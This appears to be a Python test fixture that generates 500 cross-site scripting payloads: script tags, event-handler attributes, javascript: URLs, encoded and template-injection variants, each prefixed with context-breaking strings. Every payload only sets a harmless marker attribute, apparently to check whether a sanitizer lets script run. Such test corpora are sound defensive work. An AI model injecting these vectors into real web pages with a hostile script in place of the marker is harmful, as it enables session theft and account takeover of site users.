"""Five hundred ways to have a script run, each of which would leave a mark on the page."""

from __future__ import annotations

MARK = "data-owned"
_DO = f"document.documentElement.setAttribute('{MARK}','1')"
_OTHER = f'document.documentElement.setAttribute("{MARK}","1")'

_SCRIPTS = (
    "<script>{do}</script>",
    "</script><script>{do}</script>",
    "<ScRiPt>{do}</sCrIpT>",
    "<script\n>{do}</script\n>",
    "<script/x>{do}</script>",
    '<script src="data:text/javascript,{other}"></script>',
    "<svg><script>{do}</script></svg>",
    '<svg onload="{do}">',
    "<svg/onload={bare}>",
    '<img src=x onerror="{do}">',
    "<img/src=x/onerror={bare}>",
    '<body onload="{do}">',
    '<iframe src="javascript:parent.{do}"></iframe>',
    '<iframe srcdoc="<script>parent.{do}</script>">',
    '<details open ontoggle="{do}">',
    '<input autofocus onfocus="{do}">',
    '<video><source onerror="{do}"></video>',
    '<audio src=x onerror="{do}">',
    "<math><mtext><script>{do}</script>",
    '<object data="javascript:{do}">',
    '<a href="javascript:{do}">x</a>',
    "<a href='java\tscript:{other}'>x</a>",
    '<form action="javascript:{do}"><button>x</button></form>',
    '<button onclick="{do}">x</button>',
    '<div style="animation-name:x" onanimationstart="{do}">',
    '<meta http-equiv=refresh content="0;url=javascript:{do}">',
    '<base href="javascript:{do}//">',
    "<template><script>{do}</script></template><script>{do}</script>",
    '<noscript><p title="</noscript><img src=x onerror={bare}>">',
    "<style>@import 'javascript:{other}';</style>",
    '<marquee onstart="{do}">',
    '<select autofocus onfocus="{do}">',
    '<textarea autofocus onfocus="{do}">',
    '<keygen autofocus onfocus="{do}">',
    '<table background="javascript:{do}">',
    '<link rel=stylesheet href="javascript:{do}">',
    '<svg><animate onbegin="{do}" attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:{do}"><text>x</text></a></svg>',
    '<isindex type=image src=x onerror="{do}">',
    "javascript:{do}",
    "{{{{constructor.constructor('{other}')()}}}}",
    "${{{do}}}",
    "<%= {do} %>",
    "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
    "&lt;script&gt;{do}&lt;/script&gt;",
    "&#60;script&#62;{do}&#60;/script&#62;",
    "\\x3cscript\\x3e{do}\\x3c/script\\x3e",
    "';{do};'",
    '";{other};"',
    "`;{do};`",
)
_BEFORE = ("", "\"'>", "-->", "]]>", "</textarea></title></style></script>", '\\"', "'\"`><", "\u2028", "\x00", "*/")


def payloads() -> list[str]:
    """All of them."""
    bare = _DO.replace("'", "`")
    made = [before + script.format(do=_DO, other=_OTHER, bare=bare) for before in _BEFORE for script in _SCRIPTS]
    assert len(made) == 500, len(made)
    return made


def text(number: int, *, many: int = 25) -> str:
    """Some of them in one string; the numbers 0 to 19 have all."""
    every = payloads()
    first = many * number % len(every)
    return " ".join(every[first : first + many])
